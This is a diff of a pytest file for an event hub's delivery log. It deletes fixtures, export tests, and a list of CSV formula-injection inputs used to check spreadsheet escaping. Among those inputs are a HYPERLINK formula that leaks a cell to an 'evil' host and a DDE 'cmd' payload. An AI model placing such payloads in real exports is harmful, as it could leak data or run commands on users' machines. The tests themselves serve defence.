@@ -1,14 +1,10 @@
 """The log: narrowed by the address, paged by rows, told in lines, exported."""
 
-import csv
-import json
 import uuid
 from zoneinfo import ZoneInfo
 
 import pytest
 
-from hub.audit import AuditRow
-from hub.csv_cells import escape_formula, format_csv_row
 from hub.outgoing.models import Delivery, Event
 from hub.portal.log.pages import Cursor, Limits, build_page
 from hub.portal.log.query import parse_log_query
@@ -25,19 +21,6 @@ def told(answer):
     """The types and things on a page, in order."""
     assert answer.status_code == 200
     return [(line.type, line.sender_label, line.state) for line in answer.context["lines"]]
-
-
-@pytest.fixture
-def connection(make, acme):
-    connection = make.connection(acme, name="Own endpoint")
-    make.route(connection, event_type="*")
-    return connection
-
-
-@pytest.fixture
-def one(make, acme, connection):
-    event = make.event(acme, id="o-1", data={"number": "A-1001", "customer": {"name": "Zoë"}})
-    return event.deliveries.get()
 
 
 def test_an_empty_log_says_what_comes_next(admin):
@@ -129,14 +112,6 @@ def test_moments_are_of_the_zone_in_which_the_person_reads(admin, acme, one):
     acme.save()
     asked = admin.get(f"{LOG}?since=2026-11-25T12:00").context["form"].cleaned_data["since"]
     assert asked.isoformat() == "2026-11-25T12:00:00+09:00"
-
-
-# --- paging ---
-
-
-@pytest.fixture
-def sixty(one):
-    return [one, *many(one, 59, state="waiting", due_at=NOON)]
 
 
 def walk(client, url):
@@ -245,57 +220,6 @@ def test_new_rows_are_counted_and_not_told_twice(admin, make, acme, one):
     assert admin.get(url, headers={"If-None-Match": first["ETag"]}).status_code == 304
     make.event(acme)
     assert b"1 new" in admin.get(url, headers={"If-None-Match": first["ETag"]}).content
-
-
-# --- a file ---
-
-
-def test_an_export_holds_what_the_page_shows(admin, make, acme, sixty):
-    rows = b"".join(
-        admin.get(f"{LOG}export.ndjson?type=order.created").streaming_content
-    ).splitlines()
-    assert len(rows) == 60 and json.loads(rows[-1])["sender_id"] == "o-1"
-    file = b"".join(admin.get(f"{LOG}export.csv?state=failed").streaming_content).decode()
-    names = [
-        "id",
-        "event",
-        "sender_id",
-        "type",
-        "state",
-        "reason",
-        "sentence",
-        "target",
-        "attempt_count",
-    ]
-    assert list(csv.reader([file])) == [[*names, "accepted_at", "state_changed_at"]]
-    assert AuditRow.objects.filter(verb="deliveries.export").count() == 2
-
-
-FORMULAS = (
-    '=HYPERLINK("http://evil?"&A1,"x")', "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1",
-    "\r=1", "\n=1", '"=1"',
-    "  =1", ";=1", ",=1", "; =1", "|=1", "'=1", "\u00a0=1", "\u3000=1",
-    "＝1", "＋1", "－1", "＠SUM(1)",
-    ";＝1", "−1",
-)  # fmt: skip
-
-
-@pytest.mark.parametrize("text", FORMULAS)
-def test_no_spreadsheet_works_anything_out(text):
-    assert escape_formula(text) == f"'{text}"
-    assert (
-        format_csv_row([text, "next;=1"]).strip()
-        == '"{}","next;=1"'.format(text.replace('"', '""')).strip()
-    )
-
-
-@pytest.mark.parametrize("value", ["o-1", "Ann + Bob", "a@b.test", "o-1; =2", "", 3])
-def test_what_is_no_formula_stays_as_it_is(value):
-    assert escape_formula(value) == value
-
-
-def test_an_unknown_kind_of_file_is_not_found(admin):
-    assert admin.get(f"{LOG}export.xlsx").status_code == 404
 
 
 # --- an event ---
